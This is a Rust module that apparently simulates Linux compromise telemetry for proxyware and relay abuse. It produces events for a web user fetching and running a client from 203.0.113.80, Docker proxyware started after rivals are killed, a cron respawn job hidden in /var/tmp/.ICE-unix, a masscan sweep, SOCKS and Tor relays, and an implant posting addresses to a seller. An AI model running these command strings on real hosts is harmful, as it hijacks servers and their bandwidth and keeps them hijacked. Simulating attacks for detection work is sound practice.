//! Linux: sites that were broken into, keys that leaked, jobs that come back.

use super::relay::{Shape, USUAL, relay};
use crate::fleet::day::{Day, program};

/// A site's user fetches a client to a temporary folder and runs it.
pub(super) fn web(day: &mut Day<'_>, lives: (i64, i64)) {
    let php = "/usr/sbin/php-fpm8.3";
    let (sh, curl) =
        (program("/usr/bin/dash", "www-data", php), program("/usr/bin/curl", "www-data", "/usr/bin/dash"));
    let client = program("/tmp/traffmonetizer", "www-data", "/usr/bin/dash");
    if lives.0 >= day.start {
        day.shell(
            lives.0,
            &sh,
            "sh",
            "cd /tmp; curl -fsSLO http://203.0.113.80/traffmonetizer; chmod +x traffmonetizer",
        );
        day.start(lives.0 + 1, &curl, "curl -fsSLO http://203.0.113.80/traffmonetizer");
    }
    day.start(lives.0.max(day.start) + 9, &client, "/tmp/traffmonetizer start accept --token Zm9v");
    relay(day, &client, (lives.0 + 9, lives.1), USUAL);
}

/// Over SSH: rivals are stopped, then containers are started that sell the bandwidth.
pub(super) fn docker_services(day: &mut Day<'_>, lives: (i64, i64)) {
    let docker = program("/usr/bin/docker", "root", "/usr/bin/bash");
    let pkill = program("/usr/bin/pkill", "root", "/usr/bin/bash");
    let at = lives.0.max(day.start);
    day.start(at, &pkill, "pkill -9 repocket");
    day.start(at + 5, &docker, "docker run -d --restart always --name hg honeygain/honeygain -tou-accept -email a@example.com -pass x -device 1");
    let client = program("/app/honeygain", "root", "/usr/bin/containerd-shim-runc-v2");
    day.start(at + 9, &client, "./honeygain -tou-accept -email a@example.com -pass x -device 1");
    relay(day, &client, (lives.0 + 9, lives.1), USUAL);
}

/// A job starts a client again every ten minutes, from a hidden folder.
pub(super) fn cron(day: &mut Day<'_>, lives: (i64, i64)) {
    let client = program("/var/tmp/.ICE-unix/earnfm", "www-data", "/usr/bin/dash");
    let sh = program("/usr/bin/dash", "www-data", "/usr/sbin/cron");
    for at in day.every(600, lives.0, lives.1) {
        day.shell(
            at,
            &sh,
            "sh",
            "pgrep earnfm || (EARNFM_TOKEN=x nohup /var/tmp/.ICE-unix/earnfm >/dev/null 2>&1 &)",
        );
        day.start(at + 1, &client, "/var/tmp/.ICE-unix/earnfm");
    }
    relay(day, &client, lives, USUAL);
}

/// A client under another name: only its arguments are left.
pub(super) fn renamed_client(day: &mut Day<'_>, lives: (i64, i64)) {
    let client = program("/tmp/.tb_hg", "ben", "/usr/bin/python3.12");
    day.start(
        lives.0.max(day.start),
        &client,
        "/tmp/.tb_hg -tou-accept -email a@example.com -pass x -device web",
    );
    relay(day, &client, lives, USUAL);
}

/// A scan from memory.
pub(super) fn scanner(day: &mut Day<'_>, lives: (i64, i64)) {
    let scanner = program("/dev/shm/masscan", "postgres", "/usr/lib/postgresql/16/bin/postgres");
    day.start(lives.0.max(day.start), &scanner, "/dev/shm/masscan -p2375,6379 0.0.0.0/0 --rate 1000 -oL o");
    for at in day.every(20, lives.0, lives.0 + 5400) {
        for n in 0..12 {
            let target = (day.net.resident(&mut day.dice), 2375);
            day.talk(at + n, 1, &scanner, target, 600, 0);
        }
    }
}

/// A relay that nobody has named yet.
pub(super) fn unknown_relay(day: &mut Day<'_>, lives: (i64, i64)) {
    let client = program("/var/tmp/.cache/kworkerd", "www-data", "/usr/bin/dash");
    day.start(lives.0.max(day.start), &client, "kworkerd -d");
    relay(day, &client, lives, Shape { again: 900, ..USUAL });
}

/// A SOCKS server of a service's user, which strangers dial.
pub(super) fn socks(day: &mut Day<'_>, lives: (i64, i64)) {
    let server = program("/usr/local/bin/microsocks", "www-data", "/usr/bin/dash");
    day.start(lives.0.max(day.start), &server, "microsocks -p 1080");
    for at in day.every(30, lives.0, lives.1) {
        let size = day.dice.lognormal(2e6, 0.8) as u64;
        let origin = (day.net.origin(&mut day.dice, false), 443);
        day.talk(at, 15, &server, origin, size / 40, size);
        day.serve(at, 15, &server, size, size / 40);
    }
}

/// A Tor relay of a service's user.
pub(super) fn tor(day: &mut Day<'_>, lives: (i64, i64)) {
    let tor = program("/usr/bin/tor", "www-data", "/usr/bin/dash");
    day.start(lives.0.max(day.start), &tor, "tor --ORPort 9001 --Nickname x --ExitRelay 0");
    for at in day.every(60, lives.0, lives.1) {
        let number = day.dice.below(1500);
        let peer = (day.net.tor(number), 9001);
        day.talk(at, 290, &tor, peer, 30_000_000, 30_000_000);
    }
}

/// An implant that registers every address of the network with a seller.
pub(super) fn registration(day: &mut Day<'_>, lives: (i64, i64)) {
    let curl = program("/usr/bin/curl", "daemon", "/tmp/.x/up.sh");
    for at in day.every(30, lives.0, lives.0 + 7200) {
        let n = day.dice.below(250);
        day.start(at, &curl, &format!("curl -s --interface 10.20.0.{n} --data-urlencode ip=198.51.100.{n} http://203.0.113.80/register"));
        let far = (day.server("seller", true), 80);
        day.talk(at, 1, &curl, far, 400, 200);
    }
}
